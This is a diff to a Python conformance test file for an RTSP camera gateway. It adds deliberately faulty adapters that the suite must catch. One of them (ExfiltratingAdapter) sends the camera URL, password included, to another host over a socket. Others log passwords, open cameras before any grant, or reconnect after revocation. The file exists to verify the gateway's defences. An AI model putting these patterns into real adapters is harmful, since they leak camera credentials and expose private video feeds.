@@ -7,28 +7,33 @@ make; the suite's own tests check that each one fails exactly the check meant to
 from __future__ import annotations
 
 import contextlib
+import logging
+import socket
 import threading
+import time
 from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
-from typing import Any
+from datetime import UTC, datetime
+from typing import Any, ClassVar
 
 import anyio
 import anyio.to_thread
 import attrs
 import av
 import pytest
+from camgate import hookimpl
 from camgate.adapters import AdapterFactory, LiveStream
 from camgate.errors import AdapterError
-from camgate.models import Camera, Grant, MediaPacket, Snapshot
+from camgate.models import Camera, GeoPoint, Grant, MediaPacket, Snapshot
 from camgate_conformance import SuiteConfig
 from camgate_conformance.checks import CEILINGS
-from camgate_rtsp.adapter import RtspAdapter, RtspLiveStream, RtspSettings
+from camgate_rtsp.adapter import RtspAdapter, RtspLiveStream, RtspSettings, rtsp_url
 from camgate_rtsp.conformance import RtspTarget
 from camgate_rtsp.plugin import FACTORY
 from camgate_rtsp.testserver import gstreamer_available
 
 #: Small numbers: the suite's own tests check verdicts, not statistics. Time limits times 3: CI's
 #: machine is shared, and a p95 over 3 trials is the slowest trial.
-QUICK = SuiteConfig(trials=3, stateful_examples=2, stateful_steps=5, settle_s=0.3, budget_slack=3.0)
+QUICK = SuiteConfig(trials=3, stateful_examples=3, stateful_steps=5, settle_s=0.3, budget_slack=3.0)
 
 
 @pytest.fixture(scope="session")
@@ -55,20 +60,27 @@ def _factory(name: str, create: Any, **budgets: float) -> AdapterFactory:
 class EagerAdapter(RtspAdapter):
     """Fetches before the grant: 'warms up' every camera it knows at discovery."""
 
-    def __init__(self, settings: RtspSettings, sources: Sequence[str]) -> None:
-        super().__init__(settings)
-        self.sources = list(sources)
-
     def _probe(self, url: str) -> None:
         # The DESCRIBE is the fault, and the server logs it whether or not the open succeeds.
         with contextlib.suppress(av.FFmpegError):
             av.open(url, "r", options=self.settings.open_options(), timeout=(15.0, 15.0)).close()
 
     async def discover(self) -> list[Camera]:
-        """Open each camera's stream once, to have its codec ready (a grant-less fetch)."""
-        for source in self.sources:
-            await anyio.to_thread.run_sync(self._probe, source)
-        return []
+        """Open each camera it has credentials for once, to have its codec ready (a
+        grant-less fetch), and list them."""
+        cameras = []
+        for n, (source, creds) in enumerate(self.settings.credentials.items()):
+            await anyio.to_thread.run_sync(self._probe, rtsp_url(source, creds))
+            cameras.append(
+                Camera(
+                    id=f"eager-{n}",
+                    adapter="rtsp-eager",
+                    source=source,
+                    owner_id="unknown",
+                    position=GeoPoint(0, 0),
+                )
+            )
+        return cameras
 
 
 class LingeringStream:
@@ -132,23 +144,154 @@ class SlowAdapter(RtspAdapter):
         return await super().snapshot(camera, grant)
 
 
+class ReconnectingStream(LingeringStream):
+    """Closes when told, then reconnects to the camera for 3 s more (issue 13, item 3)."""
+
+    def __init__(self, inner: RtspLiveStream, url: str, settings: RtspSettings) -> None:
+        super().__init__(inner, 0.0)
+        self.url = url
+        self.settings = settings
+
+    def _replay(self) -> None:
+        options = self.settings.open_options() | {"allowed_media_types": "video"}
+        with contextlib.suppress(av.FFmpegError), av.open(self.url, "r", options=options) as c:
+            ends = time.monotonic() + 3.0
+            for _packet in c.demux(c.streams.video[0]):
+                if time.monotonic() > ends:
+                    break
+
+    async def aclose(self) -> None:
+        """Close for real, then quietly open the camera again."""
+        await self.inner.aclose()
+        threading.Thread(target=self._replay, name="reconnect", daemon=True).start()
+
+
+class ReconnectingAdapter(RtspAdapter):
+    """Closes on revocation, and reconnects a few ms later, playing 3 s more."""
+
+    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
+        """The real stream, which reconnects after it is closed."""
+        url = self.url_for(camera)
+        inner = await RtspLiveStream.open(url, self.settings)
+        return ReconnectingStream(inner, url.reveal(), self.settings)
+
+
+class AudioAskingAdapter(RtspAdapter):
+    """Always sets up the camera's audio track; the edge's guard drops the audio (item 10)."""
+
+    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
+        """Open with audio whatever the grant says."""
+        return await RtspLiveStream.open(self.url_for(camera), self.settings, audio=True)
+
+
+class ExfiltratingAdapter(RtspAdapter):
+    """Sends the camera URL, password included, to another host at each stream (item 6)."""
+
+    collector: tuple[str, int] = ("127.0.0.1", 9)
+
+    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
+        """Report home, then stream."""
+        with contextlib.suppress(OSError), socket.create_connection(self.collector, 1) as sock:
+            sock.sendall(self.url_for(camera).reveal().encode())
+        return await super().open_live(camera, grant)
+
+
+class LeakingAdapter(RtspAdapter):
+    """Leaves one thread and one socket behind per stream (item 8)."""
+
+    held: ClassVar[list[socket.socket]] = []
+
+    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
+        """Stream, and keep a socket in a thread that never ends."""
+        sock = socket.socket()
+        self.held.append(sock)
+        threading.Thread(target=threading.Event().wait, name="leak", daemon=True).start()
+        return await super().open_live(camera, grant)
+
+
+class CachingSnapshotAdapter(RtspAdapter):
+    """Keeps the first snapshot of each camera and serves it again, stamped now (item 4)."""
+
+    def __init__(self, settings: RtspSettings) -> None:
+        super().__init__(settings)
+        self.cache: dict[str, Snapshot] = {}
+
+    async def snapshot(self, camera: Camera, grant: Grant) -> Snapshot:
+        """The cached picture, re-stamped for this grant; the camera only the first time."""
+        if camera.source not in self.cache:
+            self.cache[camera.source] = await super().snapshot(camera, grant)
+        return attrs.evolve(
+            self.cache[camera.source],
+            grant_id=grant.id,
+            camera_id=camera.id,
+            taken_at=datetime.now(UTC),
+        )
+
+
+class BlindAdapter(RtspAdapter):
+    """Overrides discovery but finds nothing, so its discovery budget times nothing (item 12)."""
+
+    async def discover(self) -> list[Camera]:
+        """Nothing, at once."""
+        return []
+
+
+class DebugLoggingAdapter(RtspAdapter):
+    """Logs the camera URL, password included, at DEBUG; its errors are clean (item 5)."""
+
+    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
+        """Log, then stream."""
+        logging.getLogger("vendor.debug").debug("opening %s", self.url_for(camera).reveal())
+        return await super().open_live(camera, grant)
+
+
+class PrewarmPlugin:
+    """A vendor plugin whose decision hook 'pre-warms' the camera for a denied request
+    (DESCRIBE, SETUP, PLAY before any grant): item 9. It registers its adapter too."""
+
+    def __init__(self, factory: AdapterFactory, sources: Sequence[str], settings: Any) -> None:
+        self.factory = factory
+        self.sources = list(sources)
+        self.settings = _settings(settings)
+
+    @hookimpl
+    def camgate_register_adapters(self, register: Any) -> None:
+        """The (honest) adapter."""
+        register(self.factory)
+
+    @hookimpl
+    def camgate_decision_made(self, decision: Any) -> None:
+        """Warm every camera up when a request is refused (it will be asked again soon)."""
+        if decision.allowed:
+            return
+        for source in self.sources:
+            url = rtsp_url(source, self.settings.credentials.get(source))
+            with contextlib.suppress(av.FFmpegError):
+                av.open(url, "r", options=self.settings.open_options()).close()
+
+
 def _settings(settings: Mapping[str, Any], **extra: Any) -> RtspSettings:
     return RtspSettings.from_mapping({**settings, **extra})
 
 
+#: Checks a broken adapter may fail besides its own, when the fault also shows there by chance
+#: (a reconnect a few ms after a close may fall inside the state machine's redemption window).
+MAY_ALSO: dict[str, set[str]] = {"reconnecting": {"stateful.never-outside-grant"}}
+
+
 def broken_factories(target: RtspTarget) -> dict[str, tuple[AdapterFactory, set[str]]]:
     """Each broken adapter's factory and the only checks it must fail."""
-    sources = list(target.sources)
     return {
         "eager": (
             # Opening every stream makes its discovery slow (2.1 s p95 on a loaded CI machine):
             # it declares camgate's ceiling, so that only the gating check speaks against it.
             _factory(
                 "rtsp-eager",
-                lambda s: EagerAdapter(_settings(s), sources),
+                lambda s: EagerAdapter(_settings(s)),
                 discovery_s=CEILINGS["discovery"],
             ),
-            {"gating.no-media-before-grant"},
+            # ... and at every later discover(), after activity too (item 4).
+            {"gating.no-media-before-grant", "gating.snapshot-fresh-and-closed"},
         ),
         "lingering": (
             _factory(
@@ -163,6 +306,35 @@ def broken_factories(target: RtspTarget) -> dict[str, tuple[AdapterFactory, set[
         "slow": (
             _factory("rtsp-slow", lambda s: SlowAdapter(_settings(s)), snapshot_s=0.5),
             {"budget.snapshot"},
+        ),
+        "reconnecting": (
+            _factory("rtsp-reconnecting", lambda s: ReconnectingAdapter(_settings(s))),
+            # Reconnecting after every close breaks the promises about closed access.
+            {"gating.revocation-closes", "gating.no-idle-connection"},
+        ),
+        "audio": (
+            _factory("rtsp-audio", lambda s: AudioAskingAdapter(_settings(s))),
+            {"gating.no-audio-without-grant"},
+        ),
+        "exfiltrating": (
+            _factory("rtsp-exfiltrating", lambda s: ExfiltratingAdapter(_settings(s))),
+            {"gating.egress-only-to-target"},
+        ),
+        "leaking": (
+            _factory("rtsp-leaking", lambda s: LeakingAdapter(_settings(s))),
+            {"robustness.no-resource-leak"},
+        ),
+        "debug-logging": (
+            _factory("rtsp-debug-logging", lambda s: DebugLoggingAdapter(_settings(s))),
+            {"robustness.no-secret-in-errors"},
+        ),
+        "caching": (
+            _factory("rtsp-caching", lambda s: CachingSnapshotAdapter(_settings(s))),
+            {"gating.snapshot-fresh-and-closed"},
+        ),
+        "blind": (
+            _factory("rtsp-blind", lambda s: BlindAdapter(_settings(s))),
+            {"budget.discovery"},
         ),
     }
 
